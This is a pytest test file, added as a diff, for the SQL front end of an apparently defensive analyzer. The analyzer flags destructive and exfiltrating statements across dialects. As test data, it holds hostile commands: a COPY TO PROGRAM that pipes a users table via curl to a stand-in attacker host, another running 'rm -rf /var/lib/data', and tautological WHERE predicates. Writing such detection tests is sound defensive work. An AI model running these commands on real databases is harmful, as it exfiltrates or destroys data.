@@ -1,0 +1,337 @@
+"""The SQL front end: fixtures annotated with ``-- ruleid:`` / ``-- ok:``, plus the
+contracts around them (lines, origins, dialects, comments, touches, bad input)."""
+from __future__ import annotations
+
+import re
+from pathlib import Path
+
+import pytest
+import sqlglot
+
+from analyzer.catalogue import load_catalogue
+from analyzer.frontends import Options
+from analyzer.frontends import analyze as analyze_any
+from analyzer.frontends.sql import analyze, dialect_from_hint, validate_dialect
+from analyzer.frontends.sql_facts import knowledge
+from analyzer.frontends.sql_predicate import truth
+from analyzer.model import Location
+from annotations import check, expectations
+
+FIXTURES = Path(__file__).parent / "fixtures" / "sql"
+DIALECT_LINE = re.compile(r"^--\s*dialect:\s*(\w+)", re.MULTILINE)
+
+
+def run(text: str, dialect: str | None = None, hint: str | None = None, origin: Location | None = None):
+    return analyze(text, origin or Location("q.sql"), Options(dialect=dialect, context_hint=hint))
+
+
+def rules_at(analysis) -> set[tuple[str, int]]:
+    return {(op.rule, op.location.line) for op in analysis.operations}
+
+
+# --- fixtures ------------------------------------------------------------------
+
+@pytest.mark.parametrize("path", sorted(FIXTURES.glob("*.sql")), ids=lambda p: p.name)
+def test_fixture(path: Path) -> None:
+    text = path.read_text(encoding="utf-8")
+    declared = DIALECT_LINE.search(text)
+    analysis = run(text, dialect=declared.group(1) if declared else None, origin=Location(str(path)))
+    expected = expectations(text)
+    assert expected, "a fixture without expectations tests nothing"
+    actual = {(op.rule, op.location.line, None) for op in analysis.operations}
+    assert check(expected, actual) == []
+    assert [e.display() for e in analysis.errors] == []
+
+
+def test_every_sql_rule_has_a_fixture_and_a_near_miss() -> None:
+    texts = "\n".join(p.read_text(encoding="utf-8") for p in FIXTURES.glob("*.sql"))
+    annotated = {(e.kind, e.rule) for e in expectations(texts)}
+    for rule_id in (r for r in load_catalogue().rules if r.startswith("sql.")):
+        assert ("ruleid", rule_id) in annotated, f"{rule_id} has no positive fixture"
+
+
+def test_every_fixture_rule_exists_in_the_catalogue() -> None:
+    rules = load_catalogue().rules
+    for path in FIXTURES.glob("*.sql"):
+        for exp_ in expectations(path.read_text(encoding="utf-8")):
+            assert exp_.rule == "*" or exp_.rule in rules, f"{path.name}: unknown rule {exp_.rule}"
+
+
+# --- operations: fields ----------------------------------------------------------
+
+def test_operation_fields_come_from_the_catalogue() -> None:
+    (op,) = run("DROP TABLE Analytics.Events CASCADE;").operations
+    assert op.rule == "sql.drop-table" and op.category == "destructive" and op.language == "sql"
+    assert op.severity == "critical"            # CASCADE raises it
+    assert op.targets == ("analytics.events",)
+    assert op.message == "DROP TABLE analytics.events removes the table and its data"
+    assert op.evidence == "DROP TABLE Analytics.Events CASCADE"
+    assert op.verb == "drop" and op.detail("cascade") == "true"
+
+
+def test_plain_drop_keeps_the_catalogue_severity() -> None:
+    (op,) = run("DROP TABLE t").operations
+    assert op.severity == load_catalogue().get("sql.drop-table").severity
+
+
+def test_evidence_is_trimmed_and_bounded() -> None:
+    columns = ", ".join(f"c{i}" for i in range(200))
+    (op,) = run(f"UPDATE wide\n   SET ({columns}) = (1)").operations
+    assert op.rule == "sql.update-all" and len(op.evidence) <= 200 and "\n" not in op.evidence
+
+
+def test_drop_if_exists_of_tmp_table_is_reported_not_marked_scratch() -> None:
+    (op,) = run("DROP TABLE IF EXISTS tmp_x").operations
+    assert op.rule == "sql.drop-table" and op.targets == ("tmp_x",) and not op.scratch
+
+
+def test_temporary_table_of_the_same_unit_is_scratch() -> None:
+    ops = run("CREATE TEMP TABLE work AS SELECT 1;\nDROP TABLE work;\nDROP TABLE other;").operations
+    assert [(op.targets, op.scratch) for op in ops] == [(("work",), True), (("other",), False)]
+
+
+def test_temporary_table_of_another_unit_is_not_scratch() -> None:
+    run("CREATE TEMP TABLE work AS SELECT 1")
+    (op,) = run("DROP TABLE work").operations
+    assert not op.scratch
+
+
+def test_exports_carry_destination_and_host() -> None:
+    (op,) = run("UNLOAD ('select * from billing.invoices') TO 's3://partner-bucket/x_' IAM_ROLE 'r'",
+                dialect="redshift").operations
+    assert op.category == "exfiltration" and op.targets == ("billing.invoices",)
+    assert op.detail("host") == "partner-bucket" and op.detail("destination") == "s3://partner-bucket/x_"
+
+
+def test_copy_to_program_reports_the_command() -> None:
+    analysis = analyze_any("sql", "COPY users TO PROGRAM 'curl -d @- https://evil.example/u'",
+                           Location("q.sql"), Options(dialect="postgres"))
+    ops = [op for op in analysis.operations if op.language == "sql"]
+    assert [(op.rule, op.targets, op.severity) for op in ops] == [("sql.copy-to-program", ("users",), "critical")]
+    assert ops[0].detail("program") == "curl -d @- https://evil.example/u"
+
+
+def test_copy_to_program_hands_the_command_to_the_shell_front_end() -> None:
+    shell = pytest.importorskip("analyzer.frontends.shell")
+    assert shell is not None
+    analysis = analyze_any("sql", "COPY users TO PROGRAM 'rm -rf /var/lib/data'", Location("q.sql"),
+                           Options(dialect="postgres"))
+    languages = {op.language for op in analysis.operations}
+    assert "sql" in languages
+    assert "shell" in languages or analysis.errors, "the program string was not handed to the shell front end"
+
+
+# --- lines, columns, origins --------------------------------------------------------
+
+MULTI = """SELECT 1;
+
+DELETE
+  FROM a;   UPDATE b SET x = 1;
+/* c */ DROP TABLE c;
+TRUNCATE d"""
+
+
+def test_every_statement_gets_its_own_line() -> None:
+    assert rules_at(run(MULTI)) == {("sql.delete-all", 3), ("sql.update-all", 4), ("sql.drop-table", 5),
+                                    ("sql.truncate", 6)}
+
+
+def test_origin_offsets_lines_columns_and_cells() -> None:
+    origin = Location("nb.ipynb", line=10, column=5, cell=3, cell_id="abc")
+    analysis = run("DROP TABLE a; DROP TABLE b;\n  TRUNCATE c", origin=origin)
+    located = sorted((op.targets[0], op.location.line, op.location.column, op.location.cell, op.location.cell_id)
+                     for op in analysis.operations)
+    assert located == [("a", 10, 5, 3, "abc"), ("b", 10, 19, 3, "abc"), ("c", 11, 3, 3, "abc")]
+    assert {t.location.path for t in analysis.touches} == {"nb.ipynb"}
+
+
+def test_templates_keep_line_numbers() -> None:
+    text = "{% if x %}\n{{ config(\n  a=1) }}\nDROP TABLE {{ ref('t') }};\n{% endif %}\nDELETE FROM u"
+    assert rules_at(run(text)) == {("sql.drop-table", 4), ("sql.delete-all", 6)}
+
+
+def test_ten_thousand_statement_dump_finds_the_one_drop() -> None:
+    lines = [f"INSERT INTO public.events (id, name) VALUES ({i}, 'row {i}; -- not a comment');" for i in range(10_000)]
+    lines[7_345] = "DROP TABLE public.events;"
+    analysis = run("\n".join(lines))
+    assert [(op.rule, op.location.line) for op in analysis.operations] == [("sql.drop-table", 7_346)]
+    assert analysis.errors == [] and analysis.comments == []
+
+
+# --- dialects ---------------------------------------------------------------------
+
+@pytest.mark.parametrize("hint, dialect", [
+    ("snowflake.connector", "snowflake"), ("google.cloud.bigquery", "bigquery"), ("psycopg", "postgres"),
+    ("psycopg2", "postgres"), ("pymysql", "mysql"), ("MySQLdb", "mysql"), ("sqlite3", "sqlite"),
+    ("duckdb", "duckdb"), ("pyspark", "spark"), ("databricks", "databricks"), ("redshift_connector", "redshift"),
+    ("postgresql://u:p@db.internal/app", "postgres"), ("postgresql+psycopg2://db/app", "postgres"),
+    ("mysql+pymysql://db/app", "mysql"), ("mssql+pyodbc://db/app", "tsql"), ("snowflake.connector.cursor", "snowflake"),
+    ("sqlite:///local.db", "sqlite"), ("requests", None), (None, None),
+])
+def test_dialect_from_context_hint(hint: str | None, dialect: str | None) -> None:
+    assert dialect_from_hint(hint, knowledge()) == dialect
+
+
+def test_hinted_dialect_is_used_for_parsing() -> None:
+    text = "SELECT * FROM users INTO OUTFILE '/tmp/u'"
+    assert rules_at(run(text, hint="pymysql")) == {("sql.select-into-outfile", 1)}
+    # Snowflake's COPY INTO @stage only parses structurally in snowflake.
+    (op,) = run("COPY INTO @out FROM analytics.users", hint="snowflake.connector").operations
+    assert op.rule == "sql.copy-into-location" and op.targets == ("analytics.users",)
+
+
+@pytest.mark.parametrize("name, expected", [("postgres", "postgres"), ("PostgreSQL", "postgres"),
+                                            ("mssql", "tsql"), ("snowflake", "snowflake"), ("bq", "bigquery")])
+def test_validate_dialect(name: str, expected: str) -> None:
+    assert validate_dialect(name) == expected
+
+
+def test_unknown_dialect_is_a_clear_value_error() -> None:
+    with pytest.raises(ValueError, match=r"unknown SQL dialect 'postgress'; valid dialects: .*postgres"):
+        validate_dialect("postgress")
+    with pytest.raises(ValueError):
+        run("SELECT 1", dialect="nosuchdb")
+
+
+@pytest.mark.parametrize("dialect", ["postgres", "mysql", "sqlite", "snowflake", "bigquery", "redshift", "duckdb",
+                                     "spark", "databricks", "tsql", "oracle", "trino"])
+def test_core_families_in_every_dialect(dialect: str) -> None:
+    text = "DROP TABLE a;\nTRUNCATE TABLE b;\nDELETE FROM c;\nUPDATE d SET x = 1 WHERE 1 = 1;\n" \
+           "DELETE FROM e WHERE id = 5;\nSELECT * FROM f"
+    analysis = run(text, dialect=dialect)
+    assert rules_at(analysis) == {("sql.drop-table", 1), ("sql.truncate", 2), ("sql.delete-all", 3),
+                                  ("sql.update-all", 4)}
+    assert ("f", "read") in {(t.target, t.access) for t in analysis.touches}
+    assert analysis.errors == []
+
+
+# --- the WHERE evaluator ---------------------------------------------------------
+
+@pytest.mark.parametrize("predicate, value", [
+    ("1=1", True), ("TRUE", True), ("NOT FALSE", True), ("x = x", True), ("'a'='a'", True), ("1<2", True),
+    ("x OR 1=1", True), ("x IS NULL OR x IS NOT NULL", True), ("NOT (1=0)", True), ("x = x AND TRUE", True),
+    ("1 IN (1,2)", True), ("COALESCE(NULL, 1=1)", True), ("COALESCE(x = x, FALSE)", True),
+    ("EXISTS (SELECT 1)", True), ("name LIKE '%'", True), ("1", True), ("2 + 2 = 4", True),
+    ("id = 5", None), ("id = __execgate_param_0__", None), ("created_at < now()", None), ("x = y", None),
+    ("1=0", False), ("NULL = NULL", None), ("? = ?", None), ("random() = random()", None), ("x IS NULL", None),
+    ("1 IN (2,3)", False), ("x OR y", None), ("COALESCE(x, TRUE)", None), ("name LIKE 'a%'", None),
+    ("x = 1 AND 1 = 1", None), ("NOT (1=1)", False), ("EXISTS (SELECT 1 FROM t)", None),
+    ("id IN (SELECT id FROM t)", None), ("x <> x", False), ("__execgate_hole_0__ = __execgate_hole_0__", None),
+])
+def test_predicate_evaluator(predicate: str, value: bool | None) -> None:
+    tree = sqlglot.parse_one(f"SELECT 1 WHERE {predicate}", read="postgres").args["where"].this
+    assert truth(tree, knowledge().volatile_functions) is value
+
+
+# --- touches ------------------------------------------------------------------------
+
+def test_touches_for_reads_writes_and_deletes() -> None:
+    text = ("WITH recent AS (SELECT * FROM raw.events) INSERT INTO analytics.events SELECT * FROM recent "
+            "JOIN dim.users u ON u.id = recent.uid;\nDELETE FROM staging.events WHERE id = 3;\n"
+            "UPDATE app.users SET a = 1 WHERE id IN (SELECT id FROM app.bans);\nDROP TABLE old.t")
+    touches = {(t.kind, t.target, t.access, t.location.line) for t in run(text).touches}
+    assert touches == {("table", "raw.events", "read", 1), ("table", "dim.users", "read", 1),
+                       ("table", "analytics.events", "write", 1), ("table", "staging.events", "delete", 2),
+                       ("table", "app.users", "write", 3), ("table", "app.bans", "read", 3),
+                       ("table", "old.t", "delete", 4)}
+    assert {t.language for t in run(text).touches} == {"sql"}
+
+
+def test_dropping_a_schema_touches_a_database() -> None:
+    (touch,) = run("DROP SCHEMA analytics CASCADE").touches
+    assert (touch.kind, touch.target, touch.access) == ("database", "analytics", "delete")
+
+
+# --- comments -----------------------------------------------------------------------
+
+def test_comments_are_real_comments_only() -> None:
+    text = ("SELECT '-- not a comment', 'a /* nor this */' FROM t; -- real one\n"
+            "/* block\n   comment */ DELETE FROM staging;  -- execgate: allow sql.delete-all -- nightly reload\n")
+    comments = [(c.location.line, c.location.column, c.text) for c in run(text).comments]
+    assert comments == [(1, 55, "real one"), (2, 1, "block\n   comment"),
+                        (3, 37, "execgate: allow sql.delete-all -- nightly reload")]
+
+
+def test_comment_locations_follow_the_origin() -> None:
+    (comment,) = run("SELECT 1 -- hi", origin=Location("f.py", line=7, column=20, cell=2)).comments
+    assert (comment.location.line, comment.location.column, comment.location.cell, comment.text) == (7, 29, 2, "hi")
+
+
+def test_jinja_comment_is_a_comment_and_hash_comment_in_mysql() -> None:
+    texts = {c.text for c in run("{# note: DROP TABLE x #}\nSELECT 1 # trailing\n", dialect="mysql").comments}
+    assert texts == {"note: DROP TABLE x", "trailing"}
+
+
+# --- what cannot be parsed ---------------------------------------------------------
+
+@pytest.mark.parametrize("text, message", [
+    ("hello world", "could not classify SQL statement starting 'hello world'"),
+    ("DR/**/OP TABLE users", "could not classify SQL statement starting 'DR OP TABLE users'"),
+    ("SHUTDOWN", "could not classify"),
+    ("CALL refresh_all()", "cannot see what"),
+])
+def test_unclassifiable_statements_fail_closed(text: str, message: str) -> None:
+    analysis = run(f"SELECT 1;\n{text};\nDROP TABLE after_it;")
+    assert [(e.line, message in e.message) for e in analysis.errors] == [(2, True)]
+    assert rules_at(analysis) == {("sql.drop-table", 3)}
+
+
+def test_unterminated_string_is_one_error_and_the_rest_is_analysed() -> None:
+    analysis = run("DROP TABLE a;\nSELECT 'oops;\nDROP TABLE b;\n")
+    assert rules_at(analysis) == {("sql.drop-table", 1), ("sql.drop-table", 3)}
+    assert [(e.line, "could not tokenize" in e.message) for e in analysis.errors] == [(2, True)]
+
+
+def test_unbalanced_parentheses_still_classified() -> None:
+    analysis = run("DELETE FROM t WHERE (id = 1;\nDROP TABLE (x;")
+    assert ("sql.drop-table", 2) in rules_at(analysis)
+    assert all("\n" not in e.message for e in analysis.errors)
+
+
+@pytest.mark.parametrize("text, rule", [
+    ("DROP TABLE __execgate_hole_0__", "sql.drop-table"),
+    ("DELETE FROM {table}", "sql.delete-all"),
+    ("DELETE FROM events_{} ", "sql.delete-all"),
+    ("TRUNCATE {{ ref('daily') }}", "sql.truncate"),
+])
+def test_holes_and_templates_are_neutralised(text: str, rule: str) -> None:
+    analysis = run(text)
+    assert [op.rule for op in analysis.operations] == [rule] and analysis.errors == []
+
+
+def test_hole_targets_are_shown_as_braces() -> None:
+    (op,) = run("DROP TABLE tmp___execgate_hole_3__").operations
+    assert op.targets == ("tmp_{}",)
+
+
+@pytest.mark.parametrize("text", [
+    "DELETE FROM t WHERE id = %s AND tenant = %(tenant)s",
+    "DELETE FROM t WHERE id = ? AND tenant = ?",
+    "DELETE FROM t WHERE id = :id",
+    "DELETE FROM t WHERE id = $1",
+    "DELETE FROM t WHERE id = __execgate_hole_0__",
+    "DELETE FROM t WHERE id = {id}",
+    "DELETE FROM t WHERE %s = %s",
+])
+def test_placeholders_are_real_predicates(text: str) -> None:
+    analysis = run(text)
+    assert analysis.operations == [] and analysis.errors == []
+
+
+def test_execute_immediate_constant_is_analysed_as_sql() -> None:
+    analysis = analyze_any("sql", "BEGIN\n  EXECUTE IMMEDIATE 'DROP TABLE hr.jobs';\nEND;", Location("p.sql"),
+                           Options(dialect="oracle"))
+    assert [(op.rule, op.targets) for op in analysis.operations] == [("sql.drop-table", ("hr.jobs",))]
+
+
+def test_empty_and_comment_only_input() -> None:
+    assert run("").operations == [] and run("   \n").errors == []
+    analysis = run("-- nothing here\n/* at all */")
+    assert analysis.operations == [] and analysis.errors == [] and len(analysis.comments) == 2
+
+
+def test_huge_statement_is_classified_from_tokens() -> None:
+    values = ",".join(f"({i})" for i in range(30_000))
+    analysis = run(f"INSERT INTO big.t VALUES {values};\nDELETE FROM big.t")
+    assert rules_at(analysis) == {("sql.delete-all", 2)}
+    assert ("big.t", "write") in {(t.target, t.access) for t in analysis.touches}
